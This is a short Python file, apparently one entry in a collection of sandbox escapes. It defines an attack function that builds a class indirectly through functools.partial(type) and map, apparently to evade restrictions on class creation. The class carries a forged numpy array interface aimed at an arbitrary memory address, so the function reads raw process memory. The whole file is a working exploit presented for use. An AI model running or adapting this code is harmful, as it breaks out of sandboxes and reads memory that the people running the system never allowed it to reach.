"""Class: class machinery. Source: own find. Escape: partial(type) makes classes when C code calls it."""

import functools
import numpy as np


def attack(model, tokenizer, address):
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    (made,) = map(functools.partial(type, "Lie"), [()], [{"__array_interface__": interface}])
    return np.array(made()).tobytes()
